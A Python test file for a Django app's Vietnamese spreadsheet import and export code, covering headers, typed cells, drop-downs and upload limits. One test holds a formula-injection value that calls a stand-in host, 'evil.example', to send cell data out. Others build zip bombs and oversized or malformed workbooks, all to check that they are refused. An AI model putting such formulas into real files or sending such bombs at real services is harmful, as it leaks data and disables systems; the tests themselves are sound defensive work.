import datetime
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from openpyxl import Workbook, load_workbook

from ntm.core.spreadsheets import (
    Column,
    ImportRefused,
    ImportResult,
    Kind,
    Line,
    Sheet,
    SpreadsheetError,
    XlsxFileField,
    build_workbook,
    flag_repeats,
    open_workbook,
    read_notes,
    read_rows,
    refuse_bad_rows,
)
from ntm.core.text import fold

from .packages import lying_about_its_size, repackaged, with_members

REGISTER = Sheet(
    "Hộ", [Column("code", "Mã hộ", required=True), Column("name", "Họ tên chủ hộ")]
)


def _workbook(rows):
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return buffer


def test_read_rows_match_headers_without_diacritics_and_skip_empty_rows():
    rows = read_rows(
        _workbook(
            [["MA HO (*)", "ho ten chu ho"], ["A1", "An"], [None, ""], ["A2", None]]
        ),
        REGISTER,
    )

    assert [(row.number, row.raw) for row in rows] == [
        (2, {"code": "A1", "name": "An"}),
        (4, {"code": "A2", "name": None}),
    ]


def test_read_rows_names_missing_required_columns():
    with pytest.raises(SpreadsheetError, match="Thiếu cột bắt buộc: Mã hộ"):
        read_rows(_workbook([["Họ tên chủ hộ"], ["An"]]), REGISTER)


def test_read_rows_refuses_too_many_rows_and_empty_files():
    with pytest.raises(SpreadsheetError, match="quá 2 dòng"):
        read_rows(_workbook([["Mã hộ"], ["A"], ["B"], ["C"]]), REGISTER, max_rows=2)
    with pytest.raises(SpreadsheetError, match="không có dòng dữ liệu"):
        read_rows(_workbook([["Mã hộ"]]), REGISTER, max_rows=2)


def test_open_workbook_refuses_what_is_not_xlsx():
    with pytest.raises(SpreadsheetError, match="không phải là tệp Excel"):
        open_workbook(io.BytesIO(b"ma_ho,ten\nA1,An\n"))


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("ho.csv", b"a,b", "đuôi .xlsx"),
        ("ho.xlsx", b"not a zip", "không phải là tệp Excel"),
    ],
)
def test_xlsx_field_refuses_wrong_files(name, content, message):
    with pytest.raises(Exception, match=message):
        XlsxFileField().clean(SimpleUploadedFile(name, content))


def test_xlsx_field_accepts_a_workbook():
    upload = SimpleUploadedFile("ho.xlsx", _workbook([["Mã hộ"], ["A"]]).read())

    assert XlsxFileField().clean(upload) is upload


def test_import_result_says_what_was_saved_in_vietnamese():
    result = ImportResult(created=3, updated=2, unchanged=1)

    assert result.message == ("Đã nhập 6 dòng: 3 mới, 2 cập nhật, 1 không đổi.")


# -- the framework: sheets, typed cells, one yes/no vocabulary ---------------
SHEET = Sheet(
    "Hộ",
    [
        Column("code", "Mã", required=True),
        Column("members", "Số người", kind=Kind.INTEGER),
        Column("fibre", "Cáp quang", kind=Kind.YES_NO),
        Column("on", "Ngày", kind=Kind.DATE),
        Column("share", "Tỷ lệ", kind=Kind.PERCENT),
        Column("name", "Tên"),
    ],
)


def _upload(content):
    return SimpleUploadedFile("a.xlsx", content)


def test_build_workbook_stores_numbers_and_dates_as_such_under_a_frozen_header():
    content = build_workbook(
        (SHEET, [["A1", 8250, True, datetime.date(2025, 7, 1), 83.58, "An"]])
    )

    sheet = load_workbook(io.BytesIO(content))["Hộ"]
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == [
        "Mã (*)",
        "Số người",
        "Cáp quang",
        "Ngày",
        "Tỷ lệ",
        "Tên",
    ]
    members, fibre, day, share = sheet["B2"], sheet["C2"], sheet["D2"], sheet["E2"]
    assert (members.value, members.data_type, members.number_format) == (
        8250,
        "n",
        "#,##0",
    )
    assert fibre.value == "có"
    assert day.value == datetime.datetime(2025, 7, 1)
    assert day.number_format == "DD/MM/YYYY"
    assert share.value == pytest.approx(0.8358)
    assert share.number_format == "0.00%"


def test_build_workbook_writes_formula_like_text_as_text():
    evil = '=HYPERLINK("http://evil.example/?d="&F2,"x")'

    content = build_workbook((SHEET, [["A1", None, None, None, None, evil]]))

    cell = load_workbook(io.BytesIO(content))["Hộ"]["F2"]
    assert (cell.value, cell.data_type) == (evil, "s")


@pytest.mark.parametrize(
    ("word", "expected"),
    [
        ("có", True),
        ("Có", True),
        ("x", True),
        (1, True),
        ("yes", True),
        ("không", False),
        ("khong", False),
        (0, False),
        ("", False),
        (None, False),
    ],
)
def test_yes_no_vocabulary_and_blank_rule(word, expected):
    content = build_workbook((SHEET, [["A1", None, word, None, None, None]]))

    [row] = read_rows(_upload(content), SHEET)

    assert row.yes_no("fibre") is expected
    assert row.messages == []


def test_row_readings_report_every_bad_cell_of_a_row():
    content = build_workbook(
        (SHEET, [["A1", "nhiều", "có lẽ", "31/02/2025", None, None]])
    )
    [row] = read_rows(_upload(content), SHEET)

    assert row.integer("members", 1, 50) is None
    assert row.yes_no("fibre") is None
    assert row.date("on") is None
    with pytest.raises(ImportRefused) as refused:
        refuse_bad_rows([row])
    assert [error.row for error in refused.value.errors] == [2]
    assert len(refused.value.errors[0].messages) == 3


def test_row_reads_numbers_written_the_vietnamese_way():
    content = build_workbook((SHEET, [["A1", "1.250", None, None, None, None]]))
    [row] = read_rows(_upload(content), SHEET)

    assert row.integer("members", 0, 10_000) == 1250
    row.raw["members"] = "15,85"
    assert row.decimal("members", Decimal(0), Decimal(90)) == Decimal("15.850000")


def test_read_rows_refuses_a_package_that_unpacks_over_the_limit(settings):
    settings.SPREADSHEET_MAX_UNPACKED_BYTES = 1000
    content = build_workbook((SHEET, [["A1"] + [None] * 5] * 50))

    with pytest.raises(SpreadsheetError, match="quá nhiều dữ liệu"):
        read_rows(_upload(content), SHEET)


def test_read_rows_refuses_more_cells_than_allowed(settings):
    settings.SPREADSHEET_MAX_CELLS = 5
    content = _workbook([["Mã hộ", "Họ tên chủ hộ"], ["A", "An"], ["B", "Bình"], ["C"]])

    with pytest.raises(SpreadsheetError, match="hơn 5 ô dữ liệu"):
        read_rows(content, REGISTER)


def test_read_rows_refuses_a_column_whose_meaning_was_turned_round():
    sheet = Sheet(
        "Cán bộ",
        [
            Column("code", "Mã", required=True),
            Column("left", "Đã thôi", kind=Kind.YES_NO, replaces="Đang làm"),
        ],
    )

    with pytest.raises(SpreadsheetError, match="“Đang làm” nay là cột “Đã thôi”"):
        read_rows(_workbook([["Mã", "Đang làm"], ["A", "không"]]), sheet)


def test_flag_repeats_names_the_value_and_its_first_row():
    rows = read_rows(_workbook([["Mã hộ"], ["A"], ["B"], ["A"]]), REGISTER)

    flag_repeats(rows, lambda row: row.code("code", 10), "%(value)s: dòng %(row)s.")

    assert [row.messages for row in rows] == [[], [], ["A: dòng 2."]]


class Fruit(models.TextChoices):
    APPLE = "apple", "Táo"
    PEAR = "pear", "Lê"


def test_template_offers_drop_downs_and_hints():
    lookup = Sheet("Danh sách thôn", [Column("code", "Mã thôn")])
    sheet = Sheet(
        "Hộ",
        [
            Column("code", "Mã", "Mã của hộ.", required=True),
            Column("village", "Mã thôn", lookup=lookup.name),
            Column("fibre", "Cáp quang", kind=Kind.YES_NO),
            Column("fruit", "Quả", kind=Kind.CHOICE, choices=Fruit),
        ],
    )

    content = build_workbook(
        (sheet, []), (lookup, [["2051501"], ["2051502"]]), template=True
    )

    data = load_workbook(io.BytesIO(content))["Hộ"]
    validations = {
        str(v.sqref): (v.formula1, v.showErrorMessage)
        for v in data.data_validations.dataValidation
    }
    last = 100_001
    assert validations == {
        f"B2:B{last}": ("'Danh sách thôn'!$A$2:$A$3", True),
        f"C2:C{last}": ('"có,không"', False),
        f"D2:D{last}": ('"Táo,Lê"', False),
    }
    assert data["A1"].comment.text == "Mã của hộ."


def test_lines_can_be_greyed_out_and_carry_their_own_drop_downs():
    sheet = Sheet("Chỉ tiêu", [Column("code", "Mã"), Column("value", "Giá trị")])

    content = build_workbook(
        (
            sheet,
            [
                Line(["A", 1], muted=True),
                Line(["B", None], options={"value": ["có", "không"]}),
                ["C", 2],
            ],
        )
    )

    data = load_workbook(io.BytesIO(content))["Chỉ tiêu"]
    assert data["A2"].fill.fgColor.rgb == "00EEEEEE"
    assert data["A3"].fill.fgColor.rgb != "00EEEEEE"
    [validation] = data.data_validations.dataValidation
    assert (str(validation.sqref), validation.formula1) == ("B3", '"có,không"')


def test_notes_are_read_back_and_say_when_the_data_is_a_demo():
    content = build_workbook(
        (REGISTER, []), notes=[("Mã đơn vị", "20515"), ("Năm", 2025)], demo=True
    )

    notes = read_notes(_upload(content))

    assert (notes[fold("Mã đơn vị")], notes[fold("Năm")]) == ("20515", 2025)
    assert notes[fold("Dữ liệu minh họa")].startswith("Có")
    assert isinstance(notes[fold("Xuất lúc")], datetime.datetime)


def test_decimal_cells_show_whole_numbers_plainly():
    sheet = Sheet("Số", [Column("value", "Giá trị", kind=Kind.DECIMAL)])

    content = build_workbook((sheet, [[Decimal(12)], [Decimal("83.5833")]]))

    data = load_workbook(io.BytesIO(content))["Số"]
    assert (data["A2"].value, data["A2"].number_format) == (12, "General")
    assert (data["A3"].value, data["A3"].number_format) == (83.5833, "#,##0.0#")


# -- limits before parsing, and broken packages ---------------------------------
HEADER_ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>Mã hộ</t></is></c></row>'


def _sheet_xml(*body):
    """A worksheet part streamed in pieces: the header row, then ``body``."""
    yield b'<?xml version="1.0" encoding="UTF-8"?>'
    yield b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    yield b"<sheetData>" + HEADER_ROW.encode()
    for part in body:
        yield from part
    yield b"</sheetData></worksheet>"


def _empty_rows(count, chunk=200_000):
    for start in range(0, count, chunk):
        yield b"<row/>" * min(chunk, count - start)


def test_twenty_odd_million_empty_rows_are_refused_before_parsing():
    # 25 million rows: 150 MB of XML, over the default unpacked limit.
    content = repackaged(
        _workbook([["Mã hộ"]]).getvalue(),
        {"xl/worksheets/sheet1.xml": _sheet_xml(_empty_rows(25_000_000))},
    )

    assert len(content) < 2 * 1024 * 1024
    with pytest.raises(SpreadsheetError, match="quá nhiều dữ liệu khi giải nén"):
        read_rows(_upload(content), REGISTER)


def test_twenty_million_empty_rows_within_the_unpacked_limit_stop_the_count():
    # 120 MB of XML: under the unpacked limit, so the row count refuses it,
    # after the first megabytes (it stops at the limit).
    content = repackaged(
        _workbook([["Mã hộ"]]).getvalue(),
        {"xl/worksheets/sheet1.xml": _sheet_xml(_empty_rows(20_000_000))},
    )

    with pytest.raises(SpreadsheetError, match="hơn 100000 dòng"):
        read_rows(_upload(content), REGISTER)


def test_rows_are_counted_on_the_raw_xml_before_parsing():
    # 200,000 empty rows without a <dimension>: openpyxl would parse them all
    # before yielding the header; the count refuses them first.
    content = repackaged(
        _workbook([["Mã hộ"]]).getvalue(),
        {"xl/worksheets/sheet1.xml": _sheet_xml(_empty_rows(200_000))},
    )

    with pytest.raises(SpreadsheetError, match="hơn 100000 dòng"):
        read_rows(_upload(content), REGISTER)


def test_rows_with_a_namespace_prefix_are_counted_too():
    content = repackaged(
        _workbook([["Mã hộ"]]).getvalue(),
        {
            "xl/worksheets/sheet1.xml": [
                b'<x:worksheet xmlns:x="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main"><x:sheetData>',
                b"<x:row/>" * 200_000,
                b"</x:sheetData></x:worksheet>",
            ]
        },
    )

    with pytest.raises(SpreadsheetError, match="hơn 100000 dòng"):
        read_rows(_upload(content), REGISTER)


def test_rows_past_a_wrong_declared_size_are_read():
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>HGD{n}</t></is></c></row>'
        for n in range(2, 6)
    )
    content = repackaged(
        _workbook([["Mã hộ"]]).getvalue(),
        {
            "xl/worksheets/sheet1.xml": [
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                b'2006/main"><dimension ref="A1"/><sheetData>',
                HEADER_ROW.encode(),
                rows.encode(),
                b"</sheetData></worksheet>",
            ]
        },
    )

    assert [row.raw["code"] for row in read_rows(_upload(content), REGISTER)] == [
        "HGD2",
        "HGD3",
        "HGD4",
        "HGD5",
    ]


def test_a_zip_bomb_sheet_is_refused_by_its_unpacked_size():
    bomb = [
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>',
        *(b"A" * 1024 * 1024 for _ in range(200)),
        b"</t></is></c></row>",
    ]
    content = repackaged(
        _workbook([["Mã hộ"]]).getvalue(),
        {"xl/worksheets/sheet1.xml": _sheet_xml(bomb)},
    )

    assert len(content) < 1024 * 1024
    with pytest.raises(SpreadsheetError, match="quá nhiều dữ liệu khi giải nén"):
        read_rows(_upload(content), REGISTER)


def test_a_package_lying_about_its_unpacked_size_is_not_a_workbook(settings):
    content = lying_about_its_size(
        _workbook([["Mã hộ"], *([f"HGD{i}"] for i in range(2000))]).getvalue(),
        "xl/worksheets/sheet1.xml",
    )

    with pytest.raises(SpreadsheetError, match="không phải là tệp Excel"):
        read_rows(_upload(content), REGISTER)


def test_a_package_of_thousands_of_parts_is_refused():
    content = with_members(_workbook([["Mã hộ"], ["A"]]).getvalue(), 1001)

    with pytest.raises(SpreadsheetError, match="quá nhiều dữ liệu"):
        read_rows(_upload(content), REGISTER)


@pytest.mark.parametrize(
    "part",
    [
        "xl/worksheets/sheet1.xml",
        "xl/workbook.xml",
        "xl/styles.xml",
        "[Content_Types].xml",
        "xl/_rels/workbook.xml.rels",
    ],
)
def test_malformed_xml_inside_a_package_is_not_a_workbook(part):
    content = repackaged(
        _workbook([["Mã hộ"], ["A"]]).getvalue(), {part: [b"<worksheet><sheetData><ro"]}
    )

    with pytest.raises(SpreadsheetError, match="không phải là tệp Excel"):
        read_rows(_upload(content), REGISTER)
